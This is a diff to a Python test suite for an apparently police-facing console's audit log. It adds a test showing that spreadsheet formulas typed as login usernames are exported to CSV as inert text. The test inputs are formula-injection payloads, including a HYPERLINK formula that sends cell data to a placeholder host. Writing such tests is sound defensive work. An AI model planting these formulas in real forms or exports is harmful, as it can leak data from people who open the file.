@@ -9,7 +9,7 @@ import pytest
 from flask.testing import FlaskClient
 from sqlalchemy import select
 
-from models import AuditEvent, Officer, OfficerRole
+from models import AuditEvent, OfficerRole
 from services.runtime import Runtime
 from tests.support.console import login, make_officer, post, signed_in, waiting_victim
 
@@ -32,7 +32,7 @@ def test_filter_and_export_the_trail(
     export = client.get("/console/audit.csv?actor=alys")
     assert export.status_code == 200 and export.mimetype == "text/csv"
     rows = list(csv.DictReader(io.StringIO(export.get_data(as_text=True))))
-    assert [r["action"] for r in rows] == ["login", "view_conversation", "logout"]
+    assert [r["action"] for r in rows] == ["login", "view_conversation", "view_queue", "logout"]
     assert rows[1]["conversation_id"] == str(conversation_id) and rows[1]["victim_id"]
     assert rows[0]["at"].endswith("Z")
     with rt.db.session() as session:
@@ -52,33 +52,23 @@ def test_compliance_report_page_and_csv(client: FlaskClient, rt: Runtime) -> Non
     assert export.status_code == 200 and export.mimetype == "text/csv"
 
 
-def test_admin_creates_changes_and_unlocks_accounts(client: FlaskClient, rt: Runtime) -> None:
-    signed_in(client, rt, "elen", OfficerRole.ADMIN)
-    created = post(
-        client,
-        "/console/accounts",
-        {
-            "username": "ifan",
-            "display_name": "PC Ifan Rees",
-            "role": "officer",
-            "password": "a long enough password",
-        },
-    )
-    assert created.status_code == 302
-    with rt.db.session() as session:
-        ifan = session.scalar(select(Officer).where(Officer.username == "ifan"))
-        assert ifan is not None and ifan.role is OfficerRole.OFFICER
-        ifan_id = ifan.id
-    changed = post(
-        client,
-        f"/console/accounts/{ifan_id}",
-        {f"o{ifan_id}-role": "supervisor", f"o{ifan_id}-active": "y"},
-    )
-    assert changed.status_code == 302
-    deactivated = post(client, f"/console/accounts/{ifan_id}", {f"o{ifan_id}-role": "supervisor"})
-    assert deactivated.status_code == 302
-    with rt.db.session() as session:
-        ifan = session.get_one(Officer, ifan_id)
-        assert ifan.role is OfficerRole.SUPERVISOR and not ifan.active
-    post(client, "/console/logout")
-    assert login(client, "ifan", "a long enough password").status_code == 401
+def test_a_formula_typed_as_a_username_is_exported_as_text(
+    client: FlaskClient, rt: Runtime
+) -> None:
+    """The issue's example: `=HYPERLINK(...)` typed at sign-in, then exported by a supervisor."""
+    typed = [
+        '=HYPERLINK("http://example.invalid/?x="&A1,"open")',
+        "\t=1+1",
+        "\r=1+1",
+        "\uff1dHYPERLINK(1)",
+        "@SUM(1)",
+    ]
+    for username in typed:
+        login(client, username, "not a password at all", code="")
+    signed_in(client, rt, "huw", OfficerRole.SUPERVISOR)
+    export = client.get("/console/audit.csv?action=login_failed").get_data(as_text=True)
+    actors = [r["actor"] for r in csv.DictReader(io.StringIO(export))]
+    assert len(actors) == len(typed)
+    for actor in actors:
+        assert actor.startswith("'"), actor
+    assert {a[1:] for a in actors} == {t.strip().lower()[:64] for t in typed}
